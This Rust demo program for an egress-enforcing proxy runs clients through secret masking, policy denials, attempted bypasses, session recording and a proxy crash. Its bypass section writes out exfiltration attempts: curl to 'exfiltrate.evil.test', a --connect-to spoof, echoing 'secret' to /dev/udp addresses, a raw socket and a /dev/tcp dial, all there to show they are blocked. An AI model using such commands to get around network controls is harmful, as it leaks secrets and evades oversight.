//! What enforcer does, step by step, on this machine and without the internet:
//! `cargo xtask demo`.

use std::io::IsTerminal;
use std::path::Path;
use std::process::{Command, Stdio};

use anyhow::{Context, Result, ensure};
use enforcer_tests::origin::{Content, Origin};
use enforcer_tests::service::Service;
use enforcer_tests::wait::{PATIENCE, within};

const NAME: &str = "api.demo.test";
const POLICY: &str = r#"
version: 1
name: demo
rules:
  - id: mask-secrets
    when: {host: api.demo.test}
    mask: {request: [secrets], response: [secrets]}
    addresses: [loopback]
  - id: no-push
    when: {host: api.demo.test, path: '**/git-receive-pack'}
    deny: pushes go through review; open a merge request instead
  - id: no-admin
    when: {host: api.demo.test, path: /admin/**}
    deny: administration is not for jobs
  - id: api
    when: {host: api.demo.test}
    allow: true
"#;

/// Opens a raw socket and sends to nobody in particular.
const RAW: &str = "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)";

struct Demo {
    service: Service,
    origin: Origin,
    folder: tempfile::TempDir,
    token: String,
}

fn main() -> Result<()> {
    let token = ["gh", "p_", "D3m0vQ7xT2kB", "n8Rw5LzJ1cYd", "H6gUaP4sE9fM"].concat();
    let folder = tempfile::tempdir()?;
    let origin = Origin::start(NAME, Content { token: token.clone(), folder: folder.path().to_owned() })?;
    let url = format!("https://{NAME}:{}", origin.address.port());
    let made = Command::new("python3")
        .arg(Path::new(env!("CARGO_MANIFEST_DIR")).join("clients/make_content.py"))
        .arg(folder.path())
        .arg(&url)
        .status()?;
    ensure!(made.success(), "the content of the demonstration's server was not made");
    let service = Service::start_for(NAME, origin.address, &origin.ca_pem, POLICY)?;
    let mut demo = Demo { service, origin, folder, token };
    println!("A server at {url} plays an LLM API and a git host. It answers with a token that no job");
    println!("may see. Clients are this machine's own, in tagged cgroups; they know of no proxy.");
    demo.clients()?;
    demo.denials()?;
    demo.bypasses()?;
    demo.recording()?;
    demo.crash()?;
    heading("Enforcement is lifted on purpose: the host is as it was.");
    demo.service.release()?;
    println!("   done; `enforcer --help` says what else there is");
    Ok(())
}

impl Demo {
    fn clients(&self) -> Result<()> {
        heading("1. Stock clients are redirected by the kernel. The token is masked on its way.");
        self.job("curl -sS $URL/text")?;
        say("The certificate that curl verified is of this host's own CA, trusted in the job alone:");
        self.job("curl -sv $URL/text 2>&1 | grep issuer")?;
        say("OpenAI's SDK for Python and Anthropic's for Node, streaming:");
        self.job("$PYTHON $CLIENTS/python/llm.py openai")?;
        self.job("node $NODE/probe.mjs anthropic")?;
        say("git:");
        self.job("git clone -q $URL/git/app.git && cat app/README")
    }

    fn denials(&self) -> Result<()> {
        heading("2. A denial says why, and what to do: to git's user, and to an agent.");
        self.job(
            "cd app && echo more >> README && git -c user.name=d -c user.email=d@d.test commit -qam more && git push -q",
        )?;
        self.job("curl -sS $URL/admin/users")
    }

    fn bypasses(&self) -> Result<()> {
        heading("3. Going around it.");
        say("Without proxies, by address, with another server name:");
        self.job("curl -sS --noproxy '*' $URL/text")?;
        self.job(&format!("curl -skS https://{}/text | head -c 300; echo", self.origin.address))?;
        self.job(&format!(
            "curl -skS --connect-to evil.test:{0}:{1} https://evil.test:{0}/ | head -c 300; echo",
            self.origin.address.port(),
            self.origin.address
        ))?;
        say("A name that no rule allows is asked for nowhere:");
        self.job("curl -sS https://exfiltrate.evil.test/")?;
        say("A raw socket, UDP over IPv4, and IPv6:");
        self.job(&format!("python3 -c '{RAW}' 2>&1 | tail -1"))?;
        self.job("bash -c 'echo secret > /dev/udp/192.0.2.1/443'")?;
        self.job("bash -c 'echo secret > /dev/udp/2001:db8::1/443'")?;
        self.job("curl -sS -g 'http://[2001:db8::1]/' | head -c 300; echo")
    }

    fn recording(&self) -> Result<()> {
        heading("4. What was recorded. No secret stands in it, and the chain of hashes holds.");
        self.show(&["sessions", "ls", "-n", "14"])?;
        self.show(&["sessions", "verify"])?;
        let written = self.service.written()?;
        let found = written.windows(self.token.len()).any(|window| window == self.token.as_bytes());
        ensure!(!found, "the token stands in a file that was written");
        say("The token stands in none of the files that were written.");
        Ok(())
    }

    fn crash(&self) -> Result<()> {
        heading("5. The proxy is killed. A job has no network then; everybody else notices nothing.");
        let address = self.origin.address;
        let dial = format!("exec 3<>/dev/tcp/{}/{}", address.ip(), address.port());
        let script = format!("read go; ({dial}) 2>&1 | tail -1; read go; curl -sS $URL/text");
        let mut job = self.prepared(&script)?.stdin(Stdio::piped()).spawn()?;
        let mut go = job.stdin.take().context("no input")?;
        say(&format!("$ enforcer run -- sh -c '{script}'"));
        let has_begun = |status: serde_json::Value| !status["jobs"].as_array().is_none_or(Vec::is_empty);
        ensure!(
            within(PATIENCE, || self.service.status().is_ok_and(has_begun)).is_some(),
            "the job does not begin"
        );
        self.service.kill_proxy()?;
        std::io::Write::write_all(&mut go, b"\n")?;
        let outside = Command::new("bash").args(["-c", &dial]).status()?;
        ensure!(outside.success(), "a process outside of jobs noticed");
        self.service.wait_whole()?;
        std::io::Write::write_all(&mut go, b"\n")?;
        drop(go);
        ensure!(job.wait()?.success(), "the job did not come back");
        Ok(())
    }

    /// A job in a folder that all steps share.
    fn prepared(&self, script: &str) -> Result<Command> {
        let installed = Path::new(env!("CARGO_MANIFEST_DIR")).join("../target/clients");
        let home = self.folder.path().join("home");
        std::fs::create_dir_all(&home)?;
        let mut command =
            self.service.command(&["run", "--", "bash", "-c", &format!("exec 2>&1; {script}")])?;
        command
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("HOME", &home)
            .env("URL", format!("https://{NAME}:{}", self.origin.address.port()))
            .env("CLIENTS", Path::new(env!("CARGO_MANIFEST_DIR")).join("clients"))
            .env("PYTHON", installed.join("python/bin/python"))
            .env("NODE", installed.join("node"))
            .env("LANG", "C.UTF-8")
            .current_dir(&home)
            .stdin(Stdio::null());
        Ok(command)
    }

    fn job(&self, script: &str) -> Result<()> {
        println!("   $ enforcer run -- {script}");
        let out = self.prepared(script)?.output()?;
        for line in String::from_utf8_lossy(&out.stdout).lines() {
            println!("     {line}");
        }
        let said = String::from_utf8_lossy(&out.stderr);
        if !said.is_empty() {
            println!("     {}", said.trim_end());
        }
        if let Some(code) = out.status.code().filter(|code| *code != 0) {
            println!("     (exit code {code})");
        }
        Ok(())
    }

    fn show(&self, args: &[&str]) -> Result<()> {
        println!("   $ enforcer {}", args.join(" "));
        let out = self.service.output(args).context("the program does not start")?;
        print!("{}", String::from_utf8_lossy(&out.stdout));
        Ok(())
    }
}

fn heading(text: &str) {
    let (on, off) = if std::io::stdout().is_terminal() { ("\x1b[1m", "\x1b[0m") } else { ("", "") };
    println!("\n{on}{text}{off}");
}

fn say(text: &str) {
    println!("   {text}");
}
